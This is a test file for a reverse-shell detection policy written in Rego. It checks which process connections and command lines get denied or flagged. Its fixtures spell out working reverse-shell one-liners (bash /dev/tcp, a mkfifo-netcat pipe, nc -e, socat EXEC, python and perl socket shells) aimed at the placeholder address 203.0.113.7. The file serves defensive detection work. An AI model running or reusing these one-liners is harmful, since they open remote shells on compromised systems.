package sentinel.reverse_shell_test

import data.sentinel.fixtures as fx
import data.sentinel.reverse_shell.alert
import data.sentinel.reverse_shell.deny

test_shell_to_public_address if {
	deny == {"shell /usr/bin/bash connects to 203.0.113.7 port 4444"} with input as fx.connect("/usr/bin/bash", "203.0.113.7", 4444)
}

test_shell_to_public_ipv6_address if {
	count(deny) == 1 with input as fx.connect("/usr/bin/dash", "2001:db8::7", 443)
}

test_copied_shell_is_still_a_shell if {
	count(deny) == 1 with input as fx.connect("/tmp/.x/bash", "203.0.113.7", 4444)
}

test_busybox_shell if {
	count(deny) == 1 with input as fx.args(fx.connect("/bin/busybox", "203.0.113.7", 4444), ["busybox", "sh"])
}

test_busybox_wget_is_no_shell if {
	count(deny) == 0 with input as fx.args(fx.connect("/bin/busybox", "203.0.113.7", 443), ["wget", "https://example.com"])
}

test_curl_may_connect if {
	count(deny | alert) == 0 with input as fx.connect("/usr/bin/curl", "203.0.113.7", 443)
}

test_waiting_for_a_database_is_an_alert if {
	count(deny) == 0 with input as fx.connect("/usr/bin/bash", "10.0.3.9", 5432)
	count(alert) == 1 with input as fx.connect("/usr/bin/bash", "10.0.3.9", 5432)
}

test_health_check_on_loopback_passes if {
	count(deny | alert) == 0 with input as fx.connect("/usr/bin/bash", "127.0.0.1", 8080)
}

test_udp_shell if {
	count(alert) == 1 with input as fx.udp(fx.connect("/usr/bin/bash", "203.0.113.7", 4444))
}

test_name_look_up_of_a_shell_passes if {
	count(deny | alert) == 0 with input as fx.udp(fx.connect("/usr/bin/bash", "203.0.113.53", 53))
}

test_netcat_starts_a_shell if {
	deny == {"/usr/bin/ncat starts the shell /usr/bin/dash"} with input as fx.exec("/usr/bin/ncat", "/usr/bin/dash", ["sh"])
}

test_netcat_starts_a_busybox_shell if {
	count(deny) == 1 with input as fx.exec("/usr/bin/nc.traditional", "/bin/busybox", ["busybox", "sh", "-i"])
}

test_shell_starts_netcat if {
	count(deny | alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/nc.openbsd", ["nc", "-z", "db", "5432"])
}

test_socat_starts_a_shell if {
	count(alert) == 1 with input as fx.exec("/usr/bin/socat", "/usr/bin/bash", ["bash", "-li"])
}

test_dev_tcp_one_liner if {
	count(alert) == 1 with input as fx.exec("/usr/bin/php8.2", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
}

test_dev_tcp_probe_passes if {
	count(alert) == 0 with input as fx.exec("/usr/bin/timeout", "/usr/bin/bash", ["bash", "-c", "</dev/tcp/db/5432"])
}

test_fifo_one_liner if {
	count(alert) == 1 with input as fx.exec("/usr/bin/perl", "/usr/bin/dash", ["sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"])
}

test_netcat_with_joined_options if {
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/usr/bin/nc.traditional", ["nc", "-nve", "/bin/sh", "203.0.113.7", "4444"])
}

test_busybox_netcat_with_program if {
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/bin/busybox", ["busybox", "nc", "203.0.113.7", "4444", "-e", "/bin/sh"])
}

test_netcat_listening_passes if {
	count(alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/nc.openbsd", ["nc", "-l", "-p", "8080"])
}

test_socat_one_liner if {
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/usr/bin/socat", ["socat", "OPENSSL:203.0.113.7:443", "EXEC:bash,pty"])
}

test_socat_forwarding_passes if {
	count(alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/socat", ["socat", "TCP-LISTEN:80,fork", "TCP:10.0.0.2:80"])
}

test_python_one_liner if {
	count(alert) == 1 with input as fx.exec("/usr/bin/dash", "/usr/bin/python3.11", ["python3", "-c", "import socket,pty;s=socket.create_connection(('203.0.113.7',1));pty.spawn('sh')"])
}

test_perl_one_liner if {
	count(alert) == 1 with input as fx.exec("/usr/bin/dash", "/usr/bin/perl", ["perl", "-e", "use Socket;socket(S,2,1,6);connect(S,$p);exec(\"/bin/sh -i\")"])
}

test_python_with_sockets_alone_passes if {
	count(alert) == 0 with input as fx.exec("/usr/bin/dash", "/usr/bin/python3.11", ["python3", "-c", "import socket; print(socket.gethostname())"])
}
